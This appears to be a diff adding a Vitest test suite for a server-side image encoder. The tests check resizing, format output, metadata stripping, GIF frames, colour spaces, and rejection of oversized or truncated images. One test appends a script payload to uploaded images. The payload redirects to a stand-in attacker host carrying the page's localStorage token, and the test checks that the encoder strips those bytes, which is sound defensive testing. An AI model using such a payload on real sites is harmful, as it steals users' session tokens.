@@ -1,0 +1,182 @@
+import sharp, { type Sharp } from 'sharp';
+import { describe, expect, test } from 'vitest';
+import { encodeImage } from './image-encode.server.ts';
+import { BLUE, bombPng, plainPicture, RED } from './image.factory.ts';
+import type { EncodedImage } from './image-process.schema.ts';
+
+/** Red above blue. */
+const twoHalves = (width: number, height: number) =>
+  plainPicture(width, height).composite([
+    { input: { create: { width, height: height / 2, channels: 3, background: BLUE } }, gravity: 'south' },
+  ]);
+
+function fileOf(encoded: EncodedImage, width: number, format: 'avif' | 'webp'): Buffer {
+  const file = encoded.files.find((candidate) => candidate.width === width && candidate.format === format);
+  if (!file) throw new Error(`no ${format} of ${width} px`);
+  return Buffer.from(file.bytes);
+}
+
+/** The colour at a point, as `red`, `blue` or its numbers. */
+async function colorAt(bytes: Uint8Array, left: number, top: number): Promise<string> {
+  const pixel = await sharp(bytes).extract({ left, top, width: 1, height: 1 }).removeAlpha().raw().toBuffer();
+  const [r = 0, g = 0, b = 0] = pixel;
+  const isNear = (color: typeof RED) =>
+    Math.abs(r - color.r) + Math.abs(g - color.g) + Math.abs(b - color.b) < 40;
+  return isNear(RED) ? 'red' : isNear(BLUE) ? 'blue' : `${r},${g},${b}`;
+}
+
+describe('widths', () => {
+  test.each([
+    { own: [200, 100], size: [200, 100], widths: [200] },
+    { own: [320, 400], size: [320, 400], widths: [320] },
+    { own: [1000, 500], size: [1000, 500], widths: [320, 640, 960, 1000] },
+    { own: [2400, 1200], size: [1920, 960], widths: [320, 640, 960, 1440, 1920] },
+    { own: [1200, 3000], size: [960, 2400], widths: [320, 640, 960] },
+    { own: [3000, 2], size: [1920, 1], widths: [320, 640, 960, 1440, 1920] },
+    { own: [1, 5000], size: [1, 2400], widths: [1] },
+  ])(
+    'a picture of $own is stored as $widths, never wider or higher than kept',
+    async ({ own, size, widths }) => {
+      const [width = 0, height = 0] = own;
+      const encoded = await encodeImage(await plainPicture(width, height).png().toBuffer());
+      expect([encoded.width, encoded.height]).toEqual(size);
+      expect(encoded.widths).toEqual(widths);
+      const made = await Promise.all(encoded.files.map((file) => sharp(file.bytes).metadata()));
+      expect(made.map((file) => file.width)).toEqual(widths.flatMap((each) => [each, each]));
+    },
+  );
+
+  test('each width exists as AVIF and as WebP', async () => {
+    const encoded = await encodeImage(await plainPicture(700, 400).jpeg().toBuffer());
+    for (const { format, bytes } of encoded.files) {
+      const { format: container, compression } = await sharp(bytes).metadata();
+      expect(format === 'avif' ? [container, compression] : [container]).toEqual(
+        format === 'avif' ? ['heif', 'av1'] : ['webp'],
+      );
+    }
+  });
+});
+
+describe('what is kept of a picture', () => {
+  test('it is turned as its EXIF says, and EXIF, GPS, XMP and colour profile are gone', async () => {
+    const upload = await twoHalves(400, 200)
+      .jpeg()
+      .withMetadata({ orientation: 6 })
+      .withExif({ IFD0: { Artist: 'سارة' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '30/1 2/1 0/1' } })
+      .withXmp('<x:xmpmeta xmlns:x="adobe:ns:meta/"/>')
+      .withIccProfile('p3')
+      .toBuffer();
+    const before = await sharp(upload).metadata();
+    expect([before.exif, before.xmp, before.icc].map(Boolean)).toEqual([true, true, true]);
+
+    const encoded = await encodeImage(upload);
+    expect([encoded.width, encoded.height]).toEqual([200, 400]);
+    const after = await Promise.all(encoded.files.map((file) => sharp(file.bytes).metadata()));
+    for (const { exif, xmp, icc, orientation, space } of after) {
+      expect({ exif, xmp, icc, orientation, space }).toEqual({ space: 'srgb' });
+    }
+    // A quarter turn clockwise takes the upper half to the right.
+    expect(await colorAt(fileOf(encoded, 200, 'webp'), 180, 200)).toBe('red');
+    expect(await colorAt(fileOf(encoded, 200, 'webp'), 20, 200)).toBe('blue');
+  });
+
+  test('of an animated GIF it is the first frame', async () => {
+    const frames = await Promise.all(
+      [plainPicture(64, 64), plainPicture(64, 64, BLUE)].map((frame) => frame.png().toBuffer()),
+    );
+    const upload = await sharp(frames, { join: { animated: true } })
+      .gif()
+      .toBuffer();
+    expect((await sharp(upload).metadata()).pages).toBe(2);
+    const encoded = await encodeImage(upload);
+    const stored = fileOf(encoded, 64, 'webp');
+    expect((await sharp(stored).metadata()).pages).toBeUndefined();
+    expect(await colorAt(stored, 32, 32)).toBe('red');
+  });
+
+  test.each(['jpeg', 'png', 'gif', 'webp'] as const)('bytes appended to a %s are gone', async (format) => {
+    const payload = Buffer.from(
+      '<script>location="https://evil.example/?"+localStorage.token</script>'.repeat(3),
+    );
+    const upload = Buffer.concat([await twoHalves(320, 320).toFormat(format).toBuffer(), payload]);
+    const { files } = await encodeImage(upload);
+    for (const { bytes } of files) {
+      for (let at = 0; at + 16 <= payload.length; at += 1) {
+        expect(Buffer.from(bytes).includes(payload.subarray(at, at + 16))).toBe(false);
+      }
+    }
+  });
+
+  test('transparency', async () => {
+    const clear = { ...RED, alpha: 0.5 };
+    const upload = await sharp({ create: { width: 32, height: 32, channels: 4, background: clear } })
+      .png()
+      .toBuffer();
+    const encoded = await encodeImage(upload);
+    for (const { bytes } of encoded.files) expect((await sharp(bytes).metadata()).hasAlpha).toBe(true);
+  });
+
+  test.each([
+    ['grey', (image: Sharp) => image.toColourspace('b-w').jpeg()],
+    ['16-bit', (image: Sharp) => image.toColourspace('rgb16').png()],
+    ['CMYK', (image: Sharp) => image.toColourspace('cmyk').jpeg()],
+    ['palette', (image: Sharp) => image.png({ palette: true })],
+  ])('a %s picture becomes sRGB with 8 bits', async (_name, convert) => {
+    const encoded = await encodeImage(await convert(twoHalves(64, 64)).toBuffer());
+    const { space, depth } = await sharp(fileOf(encoded, 64, 'webp')).metadata();
+    expect([space, depth]).toEqual(['srgb', 'uchar']);
+  });
+
+  test('the placeholder is a WebP address of under 400 characters, also with transparency', async () => {
+    const noise = { type: 'gaussian', mean: 128, sigma: 60 } as const;
+    const picture = sharp({ create: { width: 300, height: 400, channels: 3, background: RED, noise } });
+    const mask = await sharp({ create: { width: 300, height: 400, channels: 3, background: RED, noise } })
+      .extractChannel(0)
+      .toBuffer({ resolveWithObject: true });
+    const upload = await picture
+      .joinChannel(mask.data, { raw: mask.info })
+      .png({ compressionLevel: 1 })
+      .toBuffer();
+    const { placeholder } = await encodeImage(upload);
+    expect(placeholder.length).toBeLessThan(400);
+    const tiny = Buffer.from(placeholder.replace('data:image/webp;base64,', ''), 'base64');
+    const { width, height, format } = await sharp(tiny).metadata();
+    expect([width, height, format]).toEqual([12, 16, 'webp']);
+  });
+});
+
+describe('what is refused', () => {
+  test('50 megapixels', async () => {
+    await expect(encodeImage(bombPng(10_000, 5_000))).rejects.toThrow(/pixel limit/);
+  });
+
+  test('a side of more than 16,384 pixels', async () => {
+    await expect(encodeImage(bombPng(16_385, 8))).rejects.toThrow('a side is too long');
+  });
+
+  test('40 megapixels over all frames', async () => {
+    const frames = await Promise.all(
+      Array.from({ length: 11 }, (_, at) =>
+        plainPicture(2_000, 2_000, { ...RED, b: at * 20 })
+          .png()
+          .toBuffer(),
+      ),
+    );
+    const upload = await sharp(frames, { join: { animated: true } })
+      .gif({ effort: 1, colours: 2 })
+      .toBuffer();
+    await expect(encodeImage(upload)).rejects.toThrow('too many pixels over all frames');
+  });
+
+  test.each(['jpeg', 'png', 'gif', 'webp'] as const)('a %s cut in half', async (format) => {
+    const noise = { type: 'gaussian', mean: 128, sigma: 40 } as const;
+    const picture = sharp({ create: { width: 200, height: 200, channels: 3, background: RED, noise } });
+    const upload = await picture.toFormat(format).toBuffer();
+    await expect(encodeImage(upload.subarray(0, upload.length / 2))).rejects.toThrow();
+  });
+
+  test('a signature with garbage after it', async () => {
+    const garbage = Buffer.from('\x89PNG\r\n\x1a\n'.padEnd(500, 'مُلهِم'), 'latin1');
+    await expect(encodeImage(garbage)).rejects.toThrow();
+  });
+});
